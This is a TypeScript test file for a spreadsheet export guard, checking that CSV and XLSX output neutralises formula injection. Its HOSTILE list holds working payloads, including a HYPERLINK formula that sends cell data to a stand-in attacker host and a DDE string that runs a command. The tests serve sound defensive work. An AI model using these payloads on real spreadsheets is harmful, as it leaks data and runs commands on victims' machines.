// What is written for spreadsheets: never a formula, and back to the letter.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { BOM, csvFile, csvLines } from '../../../adapters/files/write-csv.ts';
import { guard, unguard } from '../../../adapters/files/write-guard.ts';
import { xlsxFile } from '../../../adapters/files/write-xlsx.ts';
import type { Cell } from '../../../src/chat/file.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '  =1',
  '\u200b=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '﹦1',
  "'=1",
  "''",
];
const HARMLESS = ['', '-5', '-5.25', '15000.00', '晨光科技', '👩‍💻', 'a=b', 'x', '{"a":"=1"}', '0'];

/** What a spreadsheet sees: cells by the rules of RFC 4180 alone. */
const cellsOf = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: '\r\n' });

describe('the guard', () => {
  it.each(HOSTILE)('stands before %j', (text) => {
    expect(guard(text)).toBe(`'${text}`);
  });

  it.each(HARMLESS)('leaves %j alone', (text) => {
    expect(guard(text)).toBe(text);
  });

  it('comes off again, whatever it was put before', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE, ...HARMLESS)),
        fc.string(),
        (start, rest) => {
          expect(unguard(guard(start + rest))).toBe(start + rest);
        },
      ),
      { numRuns: 2_000 },
    );
  });
});

describe('CSV', () => {
  it('has no cell that a spreadsheet calculates', () => {
    const start = fc.constantFrom(...'=+-@\t\r\n\0＝＋－＠ \'"', '');
    fc.assert(
      fc.property(fc.array(fc.tuple(start, fc.string()), { minLength: 1 }), (made) => {
        const row = made.map(([first, rest]) => first + rest);
        const [read = []] = cellsOf(csvLines([row]));
        expect(read.map(unguard)).toEqual(row);
        for (const cell of read) {
          expect(/^[=+@\t\r\n\0＝＋－＠]/u.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)).toBe(
            false,
          );
        }
      }),
      { numRuns: 1_000 },
    );
  });

  it('tells nothing from an empty text, and keeps numbers numbers', () => {
    expect(csvLines([['', null, 0, -5, 0.1, true, false]])).toBe('"",,0,-5,0.1,true,false\r\n');
  });

  it('quotes commas, quotes and every kind of line break', () => {
    expect(csvLines([['a,b', 'say "hi"', 'x\ny', 'x\ry', 'x\r\ny']])).toBe(
      '"a,b","say ""hi""","x\ny","x\ry","x\r\ny"\r\n',
    );
  });

  it('begins with the mark Excel needs', () => {
    const text = csvFile({ name: 't', columns: ['名称'], rows: [['晨光科技']] });
    expect(text).toBe(`${BOM}名称\r\n晨光科技\r\n`);
  });
});

describe('a workbook', () => {
  const read = async (rows: readonly (readonly Cell[])[]) => {
    const bytes = await xlsxFile({ name: 'deals', columns: ['a', 'b', 'c', 'd'], rows });
    const sheet: unknown = await readSheet(bytes);
    return sheet as unknown[][];
  };

  it('keeps text text, numbers numbers and flags flags', async () => {
    const [head, row] = await read([['=1+1', -12.5, true, null]]);
    expect(head).toEqual(['a', 'b', 'c', 'd']);
    expect(row).toEqual(['=1+1', -12.5, true, null]);
  });

  it('draws what XML cannot hold, and says where a text was too long', async () => {
    const [, row] = await read([['a\0b\u001bc', 'x'.repeat(40_000), '名称😀', '']]);
    expect(row?.[0]).toBe('a␀b␛c');
    expect(String(row?.[1])).toHaveLength(32_767);
    expect(String(row?.[1]).endsWith('x …')).toBe(true);
    expect(row?.[2]).toBe('名称😀');
  });
});
